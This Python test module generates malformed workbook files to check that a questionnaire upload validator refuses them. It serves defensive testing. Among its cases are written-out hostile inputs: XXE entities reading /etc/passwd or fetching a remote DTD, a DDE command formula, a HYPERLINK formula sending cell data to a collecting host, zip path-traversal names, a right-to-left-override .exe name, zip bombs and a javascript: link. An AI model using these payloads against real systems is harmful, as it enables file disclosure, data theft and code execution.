"""Bad workbooks, made by code from a good one: by kind and name, each with words of the sentence that refuses it.

Most are files no spreadsheet program writes. The good one has two articles of the Convention; what the cases change
in it is named as a person would name it.
"""

import re
import zipfile
import zlib
from dataclasses import dataclass

from questionnaires.workbook.writing import ANSWERS, HEAD_ROW, ID, KIND, LANGUAGE, SEAL, VERSION
from tests.questionnaires.spoiling import (
    BOOK,
    RELS,
    SHEET,
    TYPES,
    cell_of,
    changed,
    entities,
    flagged,
    linked,
    lying,
    noise,
    overlapping,
    own_table,
    packed,
    parts_of,
    random_rows,
    related,
    row_with,
    sheet_with,
    spoilt,
    twice,
    with_cell,
    with_cells,
    with_column,
    with_fact,
    with_head,
    without_column,
    without_row,
    without_sheet,
)

CHOICE, TEXT, LAW, YES_NO, TICK = "6-1", "6-2", "5-1a/0", "5-3", "5-2/choices.agreement"


@dataclass(frozen=True)
class Bad:
    """A file, the kind of badness, and words of its refusal; `row` of those whose rows are refused one by one."""

    kind: str
    name: str
    content: bytes
    told: str
    row: bool = False

    def __str__(self):
        return f"{self.kind}: {self.name}"


def archives(good):
    """What is wrong with the file before anything in it is read."""
    parts = parts_of(good)
    whole = packed(parts)
    cut = "cut off or damaged"
    other = "does not begin like an office file"
    yield "nothing", "an empty file", b"", "empty"
    yield "another form", "a PDF", b"%PDF-1.7\n%\xe2\xe3\n1 0 obj", other
    yield "another form", "a table as text", b"id,version,answer\nconvention-6-1,0,Yes\n", other
    yield "another form", "a page", b"<!DOCTYPE html><html><table><tr><td>Yes</td></tr></table></html>", other
    yield "another form", "a picture", b"\x89PNG\r\n\x1a\n" + b"\0" * 64, other
    yield "another form", "a packed stream", zlib.compress(whole), other
    yield "another form", "a RAR archive", b"Rar!\x1a\x07\x01\x00" + b"\0" * 64, other
    yield (
        "another form",
        "XML of 2003",
        b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>',
        other,
    )
    yield (
        "locked",
        "a passphrase, or a workbook of 1997",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
        "passphrase",
    )
    yield "locked", "parts with a passphrase", flagged(good, 1), "locked with a passphrase"
    yield "cut off", "in the middle", whole[: len(whole) // 2], cut
    yield "cut off", "before its last byte", whole[:-1], cut
    yield "cut off", "after its first four bytes", whole[:4], cut
    yield "cut off", "a page of noughts in the middle", whole[:-600] + b"\0" * 600, cut
    yield "something before", "a script before the archive", b"PK\x03\x04#!/bin/sh\n" + whole, "before its first part"
    yield "something before", "another archive before it", packed({"a.txt": b"a"}) + whole, "before its first part"
    yield "too large", "more bytes than are taken", whole + b"\0" * 10_000_001, "is larger than"
    yield (
        "too many parts",
        "501 parts",
        packed({**parts, **{f"xl/media/{n}.png": b"" for n in range(501)}}),
        "parts, more",
    )


def packings(good):
    """What is wrong with how the parts are packed and named."""
    parts = parts_of(good)
    ended, damaged, leads = "unpacks to", "damaged or not as long as it says", "leads out of the file"
    bomb = sheet_with(b'<row r="1"></row>' * 200_000)
    yield (
        "bomb",
        "a sheet of nothing, a thousand times larger",
        changed(good, sheet=sheet_with(b" " * 20_000_000)),
        ended,
    )
    yield (
        "bomb",
        "rows that all call themselves the first",
        changed(good, sheet=bomb),
        "lies outside of what a workbook",
    )
    yield (
        "bomb",
        "many parts that are large together",
        packed({**parts, **{f"xl/media/{n}.bin": noise(n) * 9 for n in range(9)}}),
        ended,
    )
    yield (
        "bomb",
        "an archive in the archive",
        changed(good, also={"xl/media/1.zip": packed({"a": b"\0" * 30_000_000})}),
        "a file of its own inside",
    )
    yield "bomb", "elements without end", changed(good, sheet=sheet_with(b"".join(random_rows()))), "more than a table"
    yield (
        "bomb",
        "elements inside one another",
        changed(good, sheet=sheet_with(b"<a>" * 900 + b"</a>" * 900)),
        "more than a table",
    )
    yield (
        "bomb",
        "attributes without end",
        changed(good, sheet=sheet_with(b"<a " + b" ".join(b'a%d=""' % n for n in range(5000)) + b"/>")),
        "more than a table",
    )
    listed = b'<dataValidation type="list" sqref="' + b" ".join(b"A%d" % n for n in range(20_000)) + b'"/>'
    yield "bomb", "an attribute without end", changed(good, sheet=sheet_with(listed)), "more than a table"
    yield "lying size", "a part larger than it says", lying(good, SHEET, says=100), damaged
    yield "lying size", "a part smaller than it says", lying(good, SHEET, says=900_000), damaged
    yield "lying size", "a part of four gigabytes, it says", lying(good, SHEET, says=0xFFFFFFF0), ended
    yield "lying size", "nothing, it says", lying(good, SHEET, says=0), damaged
    yield "twice", "one part twice", twice(parts, SHEET), "twice"
    yield "twice", "a part twice in capitals", packed([*parts.items(), (SHEET.upper(), parts[SHEET])]), "twice"
    yield "twice", "two names for one stretch", overlapping(good), "lies inside another one"
    yield "escaping name", "a name that climbs", changed(good, also={"../../evil.xml": b"<a/>"}), leads
    yield "escaping name", "a name that climbs in the middle", changed(good, also={"xl/../../evil.xml": b"<a/>"}), leads
    yield "escaping name", "a name from the root", changed(good, also={"/etc/passwd": b"x"}), leads
    yield "escaping name", "a name of another system", changed(good, also={"C:\\evil.xml": b"x"}), leads
    yield "escaping name", "a name that turns its letters", changed(good, also={"xl/\u202elmx.exe": b"x"}), leads
    yield "link", "a link to another file", linked(good, "xl/media/1.png", 0o120777), "is a link to somewhere else"
    yield "packing", "a packing that is not taken", packed(parts, level=zipfile.ZIP_BZIP2), "packed in a way"
    yield "packing", "a packing of stronger make", packed(parts, level=zipfile.ZIP_LZMA), "packed in a way"
    yield "damaged", "a part that does not unpack", spoilt(good), damaged


def parts_that_act(good):
    """Parts that do something, fetch something, or are read otherwise than they look."""
    acts, elsewhere, declares = (
        "acts or leads elsewhere",
        "draws on another file or address",
        "declares a document type",
    )
    for name in (
        *("xl/vbaProject.bin", "xl/macrosheets/sheet1.xml", "xl/activeX/activeX1.bin", "xl/embeddings/oleObject1.bin"),
        *(
            "xl/externalLinks/externalLink1.xml",
            "customUI/customUI.xml",
            "xl/ctrlProps/ctrlProp1.xml",
            "xl/connections.xml",
        ),
    ):
        yield "macros and the like", name, changed(good, also={name: b"<a/>"}), acts
    rels = parts_of(good)[RELS]
    for kind, target in (
        ("externalLinkPath", "file://server/share/a.xlsx"),
        ("image", "http://collects.example/a.png"),
        ("attachedTemplate", "https://collects.example/a.dotm"),
        ("oleObject", "file:///c:/a.exe"),
    ):
        links = rels.replace(b"</Relationships>", related(kind, target))
        yield "external links", kind, changed(good, rels=links), elsewhere
    sheet = parts_of(good)[SHEET]
    for name, content in {
        "an entity that grows": entities() + b"<worksheet>&e8;</worksheet>",
        "an entity that reads a file": b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
        "an entity of parameters": b'<!DOCTYPE a [<!ENTITY % e SYSTEM "http://collects.example/a.dtd"> %e;]><a/>',
        "a document type alone": b"<!DOCTYPE worksheet>" + re.sub(rb"^<\?xml.*?\?>", b"", sheet),
        "a document type in UTF-16": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16"),
    }.items():
        yield "entities", name, changed(good, sheet=content), declares
    hidden = b'<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'
    yield "entities", "in the properties", changed(good, also={"docProps/core.xml": hidden}), declares
    yield "entities", "in a part that calls itself a picture", changed(good, also={"xl/media/1.png": hidden}), declares
    yield "broken XML", "an element without its end", changed(good, sheet=sheet[:-12]), "cannot be read from line"
    yield (
        "broken XML",
        "bytes that are no text",
        changed(good, sheet=sheet.replace(b"<row", b"\xff\xfe<row", 1)),
        "cannot be read from line",
    )
    number = sheet_with(row_with(5, cell_of("A5", "<v>1e400</v>", kind="n")))
    yield "broken cells", "a number beyond all numbers", changed(good, sheet=number), "the columns were changed"
    lost = sheet_with(row_with(5, cell_of("A5", "<v>99999</v>", kind="s")))
    yield "broken cells", "a text that is not among the texts", changed(good, sheet=lost), "The workbook cannot be read"
    yield "broken XML", "two roots", changed(good, sheet=sheet + b"<a/>"), "cannot be read from line"


def other_packages(good):
    """Archives that are something else, or workbooks without what makes one."""
    parts, no_workbook, unread = parts_of(good), "but no workbook", "The workbook cannot be read"
    word = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    yield "another form", "a Word file", packed({TYPES: word, "word/document.xml": b"<a/>"}), no_workbook
    yield (
        "another form",
        "an OpenDocument table",
        packed({"mimetype": b"application/vnd.oasis", "content.xml": b"<a/>"}),
        no_workbook,
    )
    yield "another form", "a binary workbook", packed({TYPES: word, "xl/workbook.bin": b"\0"}), no_workbook
    yield "another form", "an archive of pictures", packed({"1.png": b"\x89PNG"}), no_workbook
    macro = parts[TYPES].replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
    yield "macros and the like", "a workbook that calls itself one with macros", changed(good, types=macro), no_workbook
    for name, gone in {
        "nothing that leads to its sheets": RELS,
        "no list of its kinds": TYPES,
        "no workbook": BOOK,
    }.items():
        left = {name: content for name, content in parts.items() if name != gone}
        yield "parts missing", name, packed(left), unread if gone == RELS else no_workbook
    yield "parts missing", "no workbook in the workbook", changed(good, book=b"<a/>"), "sheet to read first is missing"


def cells_of_sheets(good):
    """Cells far away, formulas, errors, and columns that were changed."""
    far, formula = "lies outside of what a workbook of answers has", "holds a formula"
    for name, rows in {
        "a row far down": row_with(1_048_576, cell_of("A1048576")),
        "a column far out": row_with(5, cell_of("XFD5")),
        "a row that is no number": b'<row r="x"></row>',
        "a row of a thousand digits": b'<row r="' + b"9" * 1000 + b'"></row>',
        "a cell without a place": row_with(5, cell_of("!!")),
        "a row twice": row_with(7) + row_with(7),
        "rows that go back": row_with(9) + row_with(5),
    }.items():
        yield "far cells", name, changed(good, sheet=sheet_with(rows)), far
    for name, value in {
        "a sum": "=1+1",
        "a link that collects": '=HYPERLINK("http://collects.example/?"&A1,"Open")',
        "a command": "=cmd|' /C calc'!A0",
        "another file": "='[other.xlsx]Sheet1'!A1",
    }.items():
        yield "formulas", name, with_cell(good, TEXT, ANSWERS, value, kind="f"), f"Sheet “Convention 6”, H6: {formula}"
    yield (
        "formulas",
        "an error",
        with_cell(good, TEXT, ANSWERS, "#REF!", kind="e"),
        f"Sheet “Convention 6”, H6: {formula}",
    )
    yield (
        "columns",
        "a head renamed",
        with_head(good, ANSWERS, "My answer"),
        f"“Convention 6”, row {HEAD_ROW}: the columns",
    )
    yield "columns", "a column taken away", without_column(good, KIND), f"row {HEAD_ROW}: the columns"
    yield "columns", "a column put in", with_column(good, ID), f"row {HEAD_ROW}: the columns"


def seals(good, foreign):
    """Whose file it is: another site's, another review's, an altered one, one without its first sheet."""
    seal, missing = "The seal of this workbook does not hold", "sheet to read first is missing"
    yield "foreign seal", "of another review", foreign, "is of another review"
    yield "foreign seal", "another review written over this one", with_fact(good, 0, "otherreview"), seal
    yield "foreign seal", "another scope", with_fact(good, 2, "Everything"), seal
    yield "foreign seal", "another language", with_fact(good, 1, "fr"), seal
    yield "foreign seal", "no seal", with_fact(good, 4, None), seal
    yield "foreign seal", "a seal of another site", with_fact(good, 4, "0123456789abcdef0123"), seal
    yield "no workbook of ours", "without its first sheet", without_sheet(good, "Read me"), missing
    yield "no workbook of ours", "somebody's own table", own_table(), missing
    yield (
        "no workbook of ours",
        "the first sheet alone",
        without_sheet(good, "Convention 5", "Convention 6"),
        "no question",
    )


def rows_refused(good):
    """Files that are read, of which a row is refused at its place."""
    altered, here = "The id, version or seal of this row was altered", "Sheet “Convention 6”,"
    yield "wrong id", "an id of nothing", with_cell(good, CHOICE, ID, "convention-99-1"), f"{here} A5: {altered}"
    yield (
        "wrong id",
        "the id of another question",
        with_cell(good, CHOICE, ID, "convention-5-3"),
        "stands in the file already",
    )
    yield "wrong id", "no id", with_cell(good, TEXT, ID, None), f"{here} A6: This row has no id"
    yield (
        "wrong id",
        "a row of no question",
        with_cell(good, LAW, ID, "convention-5-1a/77"),
        "belongs to no row of its question",
    )
    yield "wrong id", "a row taken away", without_row(good, LAW), "Rows of this question are missing"
    yield (
        "wrong id",
        "the row of the question taken away",
        without_row(good, "5-1a"),
        "The row of this question itself is missing",
    )
    yield (
        "stale version",
        "a version that never was",
        with_cell(good, CHOICE, VERSION, 7),
        f"{here} A5, question 6.1: {altered}",
    )
    yield "stale version", "no version", with_cell(good, CHOICE, VERSION, None), altered
    yield "stale version", "a version that is no number", with_cell(good, CHOICE, VERSION, "first"), altered
    yield "stale version", "a seal of another row", with_cell(good, CHOICE, SEAL, "0" * 20), altered
    yield (
        "bad choice",
        "a word that is not offered",
        with_cell(good, CHOICE, ANSWERS, "Maybe"),
        f"{here} H5, question 6.1: “Maybe” is not offered",
    )
    yield "bad choice", "a number for a choice", with_cell(good, CHOICE, ANSWERS, 1), "“1” is not offered"
    yield "bad choice", "a tick that is none", with_cell(good, TICK, ANSWERS, "Often"), "“Often” is not offered"
    yield (
        "bad choice",
        "a language that is none",
        with_cell(good, TEXT, LANGUAGE, "Klingon"),
        f"{here} G6, question 6.2: “Klingon”",
    )
    yield (
        "bad text",
        "no language",
        with_cells(good, {(TEXT, ANSWERS): "Text.", (TEXT, LANGUAGE): None}),
        "Choose one of the six languages",
    )
    yield (
        "bad text",
        "a sign that turns the writing",
        with_cell(good, TEXT, ANSWERS, "evil\u202etxt"),
        "turns the direction",
    )
    yield (
        "bad text",
        "a control sign in a code",
        with_cell(good, TEXT, ANSWERS, "a_x0007_b"),
        "control character (U+0007)",
    )
    yield "bad text", "longer than is taken", with_cell(good, TEXT, ANSWERS, "x" * 20_001), "At most 20000 characters"
    yield (
        "bad record",
        "a law without its title",
        with_cell(good, LAW, ANSWERS + 1, "s. 4"),
        "Give the title of the law.",
    )
    yield (
        "bad record",
        "a day that is none",
        with_cells(good, {(LAW, ANSWERS): "Code", (LAW, ANSWERS + 2): "2019-13-45"}),
        "There is no such day",
    )
    yield (
        "bad record",
        "a link that is none",
        with_cells(good, {(LAW, ANSWERS): "Code", (LAW, ANSWERS + 5): "javascript:alert(1)"}),
        "Write the whole address",
    )


def corpus(good, foreign):
    """All of them; `foreign` is a good workbook of another review."""
    whole = (archives, packings, parts_that_act, other_packages, cells_of_sheets)
    for cases in whole:
        yield from (Bad(*case) for case in cases(good))
    yield from (Bad(*case) for case in seals(good, foreign))
    yield from (Bad(*case, row=True) for case in rows_refused(good))
